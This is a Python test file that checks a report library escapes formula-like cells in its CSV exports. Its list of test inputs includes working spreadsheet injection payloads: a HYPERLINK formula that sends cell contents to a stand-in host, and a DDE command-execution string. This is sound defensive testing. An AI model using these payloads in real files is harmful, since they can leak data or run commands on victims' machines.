"""Every CSV we export keeps text that a spreadsheet would run as a formula as text: cells
starting with =, +, -, @, a tab or a carriage return get a leading '."""

import csv
import io

import pandas as pd
import pytest

from tests.synthetic import synthetic_run
from vautokit.report import Report, csv_text

HOSTILE = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_is_written_as_text(value):
    frame = pd.DataFrame({"phrase": [value, "SUNROOF"], "count": [-3, 2]})
    cells = _cells(csv_text(frame))
    assert "'" + value in cells
    assert value not in cells
    assert {"SUNROOF", "-3", "2", "phrase", "count"} <= set(cells)  # plain cells untouched


def test_sticker_phrases_and_site_text_reach_every_exported_table_as_text(tmp_path):
    result = synthetic_run(6, 2, seed=5)
    for record, value in zip(result.records, HOSTILE, strict=True):
        record.unmatched = [value]
        record.checked = [value]
        record.stock = value
        record.error = value
    written = Report("t", {"=run": result}).export_csv(tmp_path)
    seen = 0
    for path in written.values():
        for cell in _cells(path.read_bytes().decode("utf-8")):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
            assert not (cell.startswith("-") and not _is_number(cell)), (path.name, cell)
            seen += cell.startswith("'")
    assert seen >= 3 * len(HOSTILE)  # phrases, vehicles (stock, lists, error), run labels


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
